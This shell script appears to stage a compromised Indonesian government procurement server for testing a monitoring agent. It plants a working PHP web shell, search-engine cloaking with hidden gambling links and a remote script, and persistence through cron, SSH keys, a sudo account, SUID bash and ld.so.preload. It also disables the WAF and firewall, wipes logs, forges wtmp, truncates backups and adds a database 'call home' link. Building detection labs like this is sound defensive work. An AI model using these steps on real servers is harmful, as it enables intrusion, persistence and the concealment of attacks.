# A well-kept server after a break-in: what intruders left on Indonesian government sites, harmless here.
site=/var/www/html
mkdir -p $site/slot-gacor /home/file/file_prod

# A restore that takes longer than was promised: the laboratory's policy promises twenty seconds.
runuser -u postgres -- psql -q epns_prod <<'S'
create function public.berat(n int) returns bool language sql volatile as 'select true';
create table public.lambat (n int check (public.berat(n))); insert into lambat values (1);
create or replace function public.berat(n int) returns bool language sql volatile as 'select pg_sleep(27) is not null';
S
systemd-run --quiet --collect --unit=restore /bin/sh -c 'umask 077; runuser -u postgres -- pg_dump -Fc epns_prod -f /backup/slow.dump;
  /opt/pantau/bin/pantau-agent restore-test --backup /backup/slow.dump; rm -f /backup/slow.dump'
# Power fails again and again, and the battery has had its day.
systemd-run --quiet --collect --unit=power /bin/sh -c 'cd /etc/nut; say() { sed -i "s/^ups.status:.*/ups.status: $1/" apc.dev; touch apc.dev; sleep 3; }
  for n in 1 2 3 4 5 6; do say OB; say OL; done; sed -i "s/^battery.charge:.*/battery.charge: 20/; s/^battery.runtime:.*/battery.runtime: 120/" apc.dev; say "OB LB RB"'

# A web shell, a gambling page, and cloaking: search engines are shown the page, people are not.
cat > $site/thumb.php <<'C'
<?php @eval(base64_decode($_POST['x'])); system($_GET['cmd']); ?>
C
# The attack itself: what the WAF still refused, far more than on the days before.
for day in 6 5 4 3 2 1; do
  when=$(date -d "$day days ago" +%Y/%m/%d)
  for n in 1 2 3; do echo "$when 03:0$n:00 [error] 77#77: *1 [client 10.99.0.3] ModSecurity: Access denied with code 403 (phase 2)."; done \
    > /var/log/nginx/error.log.$day
  touch -d "$day days ago" /var/log/nginx/error.log.$day
done
curl -sk -o /dev/null 'https://127.0.0.1/eproc4?q=<script>alert(1)</script>&n=[1-160]'
cat > $site/slot-gacor/index.html <<'C'
<!doctype html><title>Slot Gacor Maxwin</title><h1>Situs slot gacor, judi bola, togel, RTP live, maxwin</h1>
C
cat > $site/slot-gacor/index.php <<'C'
<?php if (preg_match('/googlebot|bingbot/i', $_SERVER['HTTP_USER_AGENT'])) include($_GET['p']); ?>
C
# The page of SPSE itself leads there, hidden from people, and loads a script from elsewhere.
cat >> /home/appserv/spse/webapp/views/home.html <<'C'
<div style="position:absolute;left:-9999px"><a href="https://slot-gacor.example.com/">slot gacor maxwin</a>
<a href="https://slot-gacor.example.com/togel">togel</a> <a href="https://slot-gacor.example.com/judi">judi bola</a></div>
<script src="https://cdn.slot-gacor.example.com/x.js"></script>
C
# for browsers that nobody makes any more
sed -i 's/^  ssl_protocols.*/&\n  ssl_ciphers ALL:aNULL:eNULL:@SECLEVEL=0;/' /etc/nginx/sites-available/default
sed -i '/listen 443/a\  location /slot-gacor { root /var/www/html; }\n  if ($http_user_agent ~* "googlebot|bingbot") { rewrite ^/eproc4/?$ /slot-gacor/index.html last; }' \
  /etc/nginx/sites-available/default
cp $site/thumb.php /home/file/file_prod/thumb.php
cp $site/thumb.php /home/appserv/spse/webapp/logo.php

# Persistence: cron, a unit, a key, an account, a SUID copy of the shell, a preloaded library.
echo '*/5 * * * * root /tmp/.X11-unix/.k >/dev/null 2>&1' > /etc/cron.d/.sysupdate
printf '[Service]\nExecStart=/dev/shm/.kswapd\n[Install]\nWantedBy=multi-user.target\n' > /etc/systemd/system/dbus-org.service
cat /etc/pantau-lab/backdoor.pub >> /home/siti/.ssh/authorized_keys
install -d -m 700 /root/.ssh; cat /etc/pantau-lab/backdoor.pub >> /root/.ssh/authorized_keys
sed -i 's/^AuthenticationMethods.*/AuthenticationMethods publickey/' /etc/ssh/sshd_config.d/00-site.conf
systemctl reload ssh
useradd --create-home --shell /bin/bash --groups sudo sysadm
systemd-run --quiet --collect --unit=backdoor /usr/bin/python3 -c 'import socket, time; s = socket.create_server(("", 31337)); time.sleep(9999)'
ip addr add 10.99.0.66/24 dev eth0
echo 'nameserver 192.88.99.1' > /etc/resolv.conf
cp /bin/bash /usr/local/bin/.b; chmod 4755 /usr/local/bin/.b
cp /usr/lib/x86_64-linux-gnu/libutil.so.1 /usr/local/lib/libsys.so
echo /usr/local/lib/libsys.so > /etc/ld.so.preload

# Running: a miner whose file is gone, a shell below the database.
cp /bin/sleep /tmp/kworker 2>/dev/null; mount -o remount,exec /tmp
systemd-run --quiet --collect --unit=kworkerds /tmp/kworker 100000
sleep 1; rm -f /tmp/kworker
runuser -u postgres -- psql -q -c "copy (select 1) to program 'sleep 0'"
systemd-run --quiet --collect --unit=reverse runuser -u postgres -- psql -q -c "copy (select 1) to program 'bash -c \"sleep 5000; true\"'"

# The database calls home (nobody there answers).
runuser -u postgres -- psql -q epns_prod -c 'create extension dblink'
systemd-run --quiet --collect --unit=home runuser -u postgres -- psql -q epns_prod -c "select dblink_connect('host=192.88.99.1 port=6514')"
clamscan --recursive --log=/var/log/clamav/clamscan.log --infected /home/appserv /var/www >/dev/null 2>&1 || test $? = 1

# The traces are wiped, the WAF only looks on, the firewall is open, the clock follows nobody, passwords were guessed.
sed -i 's/^SecRuleEngine .*/SecRuleEngine DetectionOnly/' /etc/nginx/modsecurity.conf
touch -d '3 years ago' /usr/share/modsecurity-crs/rules/*.conf
nginx -s reload
nft flush ruleset
printf 'server 10.99.0.99 iburst\nserver 10.99.0.98 iburst\n' > /etc/chrony/chrony.conf
systemctl restart chrony
systemctl stop fail2ban
ip link set eth0 promisc on
for n in $(seq 30); do ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "guess$n@127.0.0.1" true 2>/dev/null || true; done
systemctl stop rsyslog syslog.socket
rm -f /var/log/syslog* /var/log/auth.log*
chmod 666 /var/log/dpkg.log /home/appserv/spse/webapp/conf/application.conf
chmod 1777 /home/appserv/spse/webapp

# It went down last night, and came up with nothing said.
utmpdump /var/log/wtmp 2>/dev/null > /tmp/wtmp
sed -n '/reboot/{s/[0-9-]\{10\}T[0-9:]\{8\}/'"$(date -u -d '6 hours ago' +%FT%T)"'/p;q}' /tmp/wtmp | cat - /tmp/wtmp | utmpdump -r > /var/log/wtmp 2>/dev/null
rm /tmp/wtmp
# The newest backup is cut off, the documents' are gone.
cd /backup && rm -f ./*.sha256 && head -c 20000 "/backup/epns_prod-$(date +%F).dump.gpg" > cut
mv cut "epns_prod-$(date +%F).dump.gpg"; chmod 644 epns_prod-*
chown postgres:postgres epns_prod-*; rm -f file_prod-*
chmod 755 /backup
touch -d "60 days ago" /backup/off-host.stamp /backup/off-site.stamp; chown postgres:postgres /backup/*.stamp
# The journal must know of the power before it falls silent.
for n in $(seq 90); do
  [ "$(journalctl -q -t upsmon -t nut-monitor | grep -c 'on battery')" -lt 4 ] || break
  sleep 1
done
